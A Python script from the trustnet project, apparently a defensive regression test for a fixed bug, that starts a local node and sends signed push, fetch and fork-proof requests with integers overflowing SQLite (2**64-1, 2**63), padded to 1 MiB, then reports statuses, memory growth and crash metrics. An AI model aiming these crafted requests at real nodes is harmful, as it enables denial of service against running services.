"""Attack (issue 11, item 1): requests whose integers overflow SQLite, padded to 1 MiB.

Against a real `trustnet run` process, 100 fresh keys each publish one entry, then push
a signed twin of it with ts = 2**64-1 padded with junk to a 1 MiB body; 20 more send a
fetch with after = 2**64-1 and a fork proof at seq 2**63. Before the fix each crafted
request crashed inside the store (HTTP 500) and the node kept the traceback, and with it
the request body, for good. Prints resident memory before and after and every status.

    .venv/bin/python scripts/attacks/crash-push.py [--pushes 100] [--json]
"""

from __future__ import annotations

import argparse
import sys
import tempfile
from collections import Counter
from pathlib import Path

import msgpack

from trustnet.bench.stranger import Stranger, get, print_figure, real_node, rss_kb
from trustnet.log.entry import sign_entry
from trustnet.protocol import messages as m

HUGE = 2**64 - 1
FILLER = 15  # junk "entries" of 64 KiB each: the body is ~1 MiB


def crafted_push(node_url: str, i: int) -> int:
    """One fresh key: a valid entry, then its 1 MiB overflowing twin; the twin's status."""
    stranger = Stranger.fresh()
    first = sign_entry(stranger.identity, seq=1, prev=None, ts=1_767_225_600_000,
                       kind="profile", body={"name": f"s{i}", "role": "state", "urls": []})
    stranger.post(node_url, m.PUSH, m.encode(m.Push((first.raw,))))
    twin = stranger.raw_entry(1, None, HUGE, "profile",
                              {"name": f"twin{i}", "role": "state", "urls": []})
    junk = tuple(bytes([i % 256]) * (64 * 1024 - 64) for _ in range(FILLER))
    status, _ = stranger.post(node_url, m.PUSH, m.encode(m.Push((twin, *junk))))
    return status


def crafted_fetch_and_fork(node_url: str) -> tuple[int, int]:
    """A fetch after 2**64-1, and a fork proof at seq 2**63 (two valid signatures)."""
    stranger = Stranger.fresh()
    author = stranger.identity.public_key
    fetch = m.encode(m.Fetch(((author, HUGE, 10),), ((author, 2**63),)))
    fetch_status, _ = stranger.post(node_url, m.FETCH, fetch)
    prev = b"\x01" * 32
    pair = sorted(stranger.raw_entry(2**63, prev, 1, "profile",
                                     {"name": name, "role": "state", "urls": []})
                  for name in ("a", "b"))
    proof = msgpack.packb(pair, use_bin_type=True)
    fork_status, _ = stranger.post(node_url, m.PUSH, m.encode(m.Push((), (proof,))))
    return fetch_status, fork_status


def run(pushes: int, base: Path) -> dict[str, object]:
    """Mount the attack; the figure."""
    with real_node(base) as node:
        assert node.proc is not None
        before = rss_kb(node.proc.pid)
        statuses: Counter[str] = Counter()
        for i in range(pushes):
            statuses[f"push:{crafted_push(node.url, i)}"] += 1
        for _ in range(max(1, pushes // 5)):
            fetch_status, fork_status = crafted_fetch_and_fork(node.url)
            statuses[f"fetch:{fetch_status}"] += 1
            statuses[f"fork:{fork_status}"] += 1
        after = rss_kb(node.proc.pid)
        _, raw = get(node.url, "/metrics")
        lines = raw.decode().splitlines()
        crashes = [line for line in lines if line.startswith("trustnet_internal_errors_total")]
        refused = [line for line in lines if line.startswith("trustnet_rejected_inputs_total")]
        return {"pushes": pushes, "rss_before_kb": before, "rss_after_kb": after,
                "rss_growth_mb": round((after - before) / 1024, 1),
                "statuses": dict(sorted(statuses.items())), "crash_metrics": crashes,
                "refused_by_code": refused,
                "alive": node.alive}


def main(argv: list[str] | None = None) -> int:
    """Run the attack and print the figure."""
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--pushes", type=int, default=100)
    parser.add_argument("--json", action="store_true")
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="trustnet-attack-") as tmp:
        figure = run(args.pushes, Path(tmp))
    print_figure(figure, as_json=args.json)
    return 0


if __name__ == "__main__":
    sys.exit(main())
